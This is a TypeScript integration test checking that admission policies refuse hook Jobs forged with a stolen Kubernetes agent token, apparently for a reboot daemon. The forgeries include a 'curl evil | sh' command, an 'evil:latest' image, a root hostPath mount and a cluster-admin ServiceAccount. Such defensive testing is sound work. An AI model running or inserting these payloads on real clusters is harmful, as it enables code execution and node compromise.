// Issue 56, item 4, on a real kube-apiserver: the chart rendered with two hooks (its templates, the
// agent's Role for Jobs, the hook admission policies) and applied; the agent's own code (src/hooks/)
// makes its node's Job from the stored template with a token bound to its pod on that node, as the
// kubelet mounts it, and awaits it while the test writes the Job's status as the Job controller would
// (no controller runs here). Then the held-out part: the same token sends Jobs a thief would (another
// image, another node, another ServiceAccount, a hostPath, a Service's label, fifty pods at once, a
// hook that is not configured): each is refused, and the Job as the agent makes it is admitted.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { connectKube, type ClientNodeKube } from '../../src/kube/client.js';
import type { V1Node } from '../../src/kube/kube.js';
import { HOOK_NODE_LABEL, hookJobName, jobFromTemplate } from '../../src/hooks/hook-job.js';
import { Hooks, type HookEnd } from '../../src/hooks/hooks.js';
import { SystemClock } from '../../src/clock/clock.js';
import { renderChart, tokenKubeconfig } from '../contract/chart-render.js';
import { TestCluster, send, type Answer } from '../contract/cluster.js';

const NS = 'kube-system';
const RELEASE = 'kured-ts-hooks';
const AGENT_SA = { namespace: NS, name: RELEASE };
const NODES = ['hooks-n1', 'hooks-n2'];
/** The node the thief's token is not bound to. */
const OTHER = 'hooks-n2';
const BEFORE = `${RELEASE}-before-reboot`;
const AFTER = `${RELEASE}-after-reboot`;
const IMAGE = 'quay.io/ceph/ceph:v18';
const VALUES = `
hooks:
  beforeReboot:
    template:
      metadata:
        labels: { app: ceph-noout }
      spec:
        containers:
          - name: noout
            image: ${IMAGE}
            command: [sh, -c, 'ceph osd set-group noout "$KURED_TS_NODE"']
  afterReboot:
    backoffLimit: 1
    template:
      spec:
        containers:
          - name: unset
            image: ${IMAGE}
            command: [sh, -c, 'ceph osd unset-group noout "$KURED_TS_NODE"']
`;

interface Manifest {
  apiVersion: string;
  kind: string;
  metadata: { name: string; namespace?: string };
}
interface Container {
  name: string;
  image: string;
  command?: string[];
  env?: unknown[];
}
/** A Job as far as these tests read and forge it. */
interface Job {
  metadata: { name: string; namespace?: string; labels: Record<string, string>; ownerReferences?: object[] };
  spec: {
    parallelism?: number;
    template: {
      metadata: { labels: Record<string, string> };
      spec: { containers: Container[]; serviceAccountName?: string; nodeName?: string; volumes?: object[] };
    };
  };
}

/** The Job's first container. */
function first(job: Job): Container {
  const c = job.spec.template.spec.containers[0];
  if (c === undefined) throw new Error(`job ${job.metadata.name} has no container`);
  return c;
}

let cluster: TestCluster;
let dir: string;
let agent: { url: string; ca?: string; token: string };
let agentKube: ClientNodeKube;

function render(): Manifest[] {
  const values = join(dir, 'values.yaml');
  writeFileSync(values, VALUES);
  return renderChart<Manifest>(RELEASE, NS, ['-f', values]);
}

/** A token of the agent's ServiceAccount bound to a pod of it on `node`. */
async function tokenOnNode(node: string): Promise<string> {
  return cluster.tokenInPod(AGENT_SA, { name: `${RELEASE}-${node}`, node });
}

function kubeconfigFor(token: string): string {
  return tokenKubeconfig(join(dir, 'agent.kubeconfig'), cluster.server, token);
}

const jobsPath = (ns = NS): string => `/apis/batch/v1/namespaces/${ns}/jobs`;
const why = (answer: Answer): string =>
  `${answer.status} ${(answer.body as { message?: string } | undefined)?.message ?? ''}`;

/** The Job the agent would make for `node` from the stored template of `template`, named `name`. */
async function agentsJob(
  template: string,
  hook: 'before-reboot' | 'after-reboot',
  name: string,
  node = NODES[0]!,
): Promise<Job> {
  const cronJob = await cluster.get<object>('cronjobs', NS, template);
  const made = jobFromTemplate(cronJob, { hook, name, namespace: NS, node });
  if ('problem' in made) throw new Error(made.problem);
  return made.job as unknown as Job;
}

/** The Job controller's word on the Job: `type` True. */
async function finish(name: string, type: 'Complete' | 'Failed', message = ''): Promise<void> {
  const now = new Date().toISOString();
  const conditions =
    type === 'Complete'
      ? [
          { type: 'SuccessCriteriaMet', status: 'True', lastTransitionTime: now },
          { type: 'Complete', status: 'True', lastTransitionTime: now },
        ]
      : [
          {
            type: 'FailureTarget',
            status: 'True',
            reason: 'BackoffLimitExceeded',
            message,
            lastTransitionTime: now,
          },
          {
            type: 'Failed',
            status: 'True',
            reason: 'BackoffLimitExceeded',
            message,
            lastTransitionTime: now,
          },
        ];
  const answer = await cluster.request({
    method: 'PATCH',
    path: `${jobsPath()}/${name}/status`,
    body: {
      status: {
        startTime: now,
        ...(type === 'Complete' ? { completionTime: now, succeeded: 1 } : { failed: 1 }),
        conditions,
      },
    },
    contentType: 'application/merge-patch+json',
  });
  if (answer.status !== 200) throw new Error(`status of job ${name}: ${why(answer)}`);
}

beforeAll(async () => {
  cluster = TestCluster.real();
  dir = mkdtempSync(join(tmpdir(), 'kured-ts-hooks-'));
  for (const m of render()) await cluster.apply(m);
  for (const name of NODES)
    await cluster.create<V1Node>('nodes', { apiVersion: 'v1', kind: 'Node', metadata: { name } });
  agent = { ...cluster.server, token: await tokenOnNode(NODES[0]!) };
  agentKube = connectKube({ kubeconfig: kubeconfigFor(agent.token) });
  // kube-apiserver loads a new policy (and its parameter) asynchronously: wait until a forged Job is refused
  for (let i = 0; ; i++) {
    const forged = await agentsJob(BEFORE, 'before-reboot', `${BEFORE}-probe-${i}`);
    first(forged).image = 'evil:latest';
    const answer = await send(agent, { method: 'POST', path: jobsPath(), body: forged });
    if (answer.status === 403) break;
    if (i >= 60) throw new Error(`the hook policies never took effect: ${why(answer)}`);
    await new Promise((r) => setTimeout(r, 1_000));
  }
}, 180_000);

afterAll(async () => {
  agentKube.close();
  for (const job of await cluster.list<Job>('jobs', NS).catch(() => []))
    await cluster.request({ method: 'DELETE', path: `${jobsPath()}/${job.metadata.name}` });
  await cluster.close();
  rmSync(dir, { recursive: true, force: true });
});

/** The agent's hooks on NODES[0], over its own token. */
function hooks(timeoutMs = 60_000): Hooks {
  return new Hooks({
    kube: agentKube,
    clock: new SystemClock(),
    nodeId: NODES[0]!,
    namespace: NS,
    templates: { 'before-reboot': BEFORE, 'after-reboot': AFTER },
    timeoutMs,
  });
}

/** Runs `hook` of a new cycle; once its Job exists, `act` plays the Job controller. */
async function runWhile(
  hook: 'before-reboot' | 'after-reboot',
  act: (job: string) => Promise<void>,
): Promise<{ end: HookEnd; job: string }> {
  const started = new Date().toISOString();
  const template = hook === 'before-reboot' ? BEFORE : AFTER;
  const job = hookJobName(template, NODES[0]!, started);
  const run = hooks().run(hook, started, {
    keepGoing: () => Promise.resolve(undefined),
    progress: () => Promise.resolve(),
  });
  for (let i = 0; i < 100 && (await cluster.get('jobs', NS, job)) === undefined; i++)
    await new Promise((r) => setTimeout(r, 100));
  await act(job);
  return { end: await run, job };
}

describe('on a real kube-apiserver, a hook', () => {
  it("runs as the node's Job made from the stored template with the agent's own token, and completes", async () => {
    const { end, job } = await runWhile('before-reboot', (name) => finish(name, 'Complete'));
    expect(end).toEqual({ done: true, job });
    const stored = await cluster.get<Job>('jobs', NS, job);
    expect(stored?.metadata.labels[HOOK_NODE_LABEL]).toBe(NODES[0]);
    expect(stored === undefined ? undefined : first(stored).env).toEqual([
      {
        name: 'KURED_TS_NODE',
        valueFrom: { fieldRef: { apiVersion: 'v1', fieldPath: `metadata.labels['${HOOK_NODE_LABEL}']` } },
      },
    ]);
  }, 60_000);

  it("fails, with the Job controller's reason, when its Job fails", async () => {
    const { end, job } = await runWhile('after-reboot', (name) => finish(name, 'Failed', 'noout still set'));
    expect(end).toEqual({
      failed: expect.stringMatching(/after-reboot hook Job .* failed: BackoffLimitExceeded: noout still set/),
      job,
    });
  }, 60_000);
});

describe('on a real kube-apiserver, a stolen agent token cannot run a pod of its choosing as a hook', () => {
  const forgeries: [string, (job: Job) => void, RegExp][] = [
    ['another image', (j) => (first(j).image = 'evil:latest'), /exactly those of its template/],
    [
      'another command',
      (j) => (first(j).command = ['sh', '-c', 'curl evil | sh']),
      /exactly those of its template/,
    ],
    [
      'another ServiceAccount',
      (j) => (j.spec.template.spec.serviceAccountName = 'cluster-admin-sa'),
      /exactly those of its template/,
    ],
    [
      "a hostPath of the node's root",
      (j) => {
        j.spec.template.spec.volumes = [{ name: 'root', hostPath: { path: '/' } }];
      },
      /exactly those of its template/,
    ],
    ['a pinned node', (j) => (j.spec.template.spec.nodeName = OTHER), /exactly those of its template/],
    [
      'another node as its own',
      (j) => {
        j.metadata.labels[HOOK_NODE_LABEL] = OTHER;
        j.spec.template.metadata.labels[HOOK_NODE_LABEL] = OTHER;
      },
      /may create hook Jobs only for its own node/,
    ],
    [
      "a Service's label on its pods",
      (j) => (j.spec.template.metadata.labels.app = 'frontend'),
      /carry the labels of its template/,
    ],
    ['fifty pods at once', (j) => (j.spec.parallelism = 50), /runs as its template/],
    [
      'a hook that is not configured',
      (j) => {
        j.metadata.labels['kured-ts.dev/hook'] = 'whenever';
        j.spec.template.metadata.labels['kured-ts.dev/hook'] = 'whenever';
      },
      /must be a configured hook/,
    ],
    [
      'finalizers on its pods',
      (j) => {
        (j.spec.template.metadata as { finalizers?: string[] }).finalizers = ['example.com/never'];
      },
      /finalizers of its template/,
    ],
    [
      "a name not its template's",
      (j) => (j.metadata.name = `other-${j.metadata.name}`),
      /named after its template/,
    ],
    [
      'an owner',
      (j) => (j.metadata.ownerReferences = [{ apiVersion: 'v1', kind: 'Node', name: NODES[0], uid: 'u' }]),
      /no owner/,
    ],
  ];

  it.each(forgeries)('refuses a Job with %s', async (_, forge, message) => {
    const job = await agentsJob(
      BEFORE,
      'before-reboot',
      `${BEFORE}-forged-${Math.random().toString(36).slice(2, 8)}`,
    );
    forge(job);
    const answer = await send(agent, { method: 'POST', path: jobsPath(), body: job });
    expect(why(answer)).toMatch(/^403 /);
    expect(why(answer)).toMatch(message);
  });

  it('refuses a Job in another namespace (RBAC) and admits the Job as the agent makes it', async () => {
    const elsewhere = await agentsJob(BEFORE, 'before-reboot', `${BEFORE}-elsewhere`);
    elsewhere.metadata.namespace = 'default';
    expect(why(await send(agent, { method: 'POST', path: jobsPath('default'), body: elsewhere }))).toMatch(
      /^403 /,
    );
    const honest = await agentsJob(AFTER, 'after-reboot', `${AFTER}-honest`);
    expect(why(await send(agent, { method: 'POST', path: jobsPath(), body: honest }))).toMatch(/^201/);
  });
});
